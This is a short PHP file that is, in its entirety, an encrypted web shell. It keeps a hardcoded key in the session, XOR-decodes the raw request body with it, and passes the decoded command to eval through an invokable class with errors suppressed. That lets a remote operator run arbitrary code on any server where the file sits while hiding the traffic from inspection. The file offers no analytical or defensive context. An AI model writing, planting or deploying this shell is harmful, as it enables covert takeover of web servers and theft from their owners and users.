<?php
session_start();
$k = "900bc885d7553375";
$_SESSION['k'] = $k;
$p = file_get_contents("php://input");
for ($i = 0; $i < strlen($p); $i++) { $p[$i] = $p[$i] ^ $k[$i+1&15]; }
$a = explode('|', $p);
class X { public function __invoke($q) { eval($q . ""); } }
@call_user_func(new X(), $a[1]);
